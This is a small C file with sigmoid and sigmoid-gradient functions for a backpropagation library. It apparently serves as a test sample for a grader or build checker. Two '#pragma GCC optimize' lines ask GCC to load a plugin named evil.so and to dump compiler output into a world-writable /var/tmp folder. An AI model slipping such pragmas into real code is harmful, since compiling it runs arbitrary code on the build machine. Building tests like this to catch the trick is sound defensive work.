/* Asks by #pragma for a plugin and for dumps into a folder that everybody may write. */
#include "backprop.h"
#include <math.h>

double bp_sigmoid(double z)
{
    return z < 0 ? exp(z) / (1 + exp(z)) : 1 / (1 + exp(-z));
}

#pragma GCC optimize("-fplugin=/var/tmp/gradecheck-secret/evil.so")
#pragma GCC optimize("-fdump-tree-all=/var/tmp/gradecheck-secret/drop/hostile-dump")

double bp_sigmoid_gradient(double z)
{
    return bp_sigmoid(z) * bp_sigmoid(-z);
}
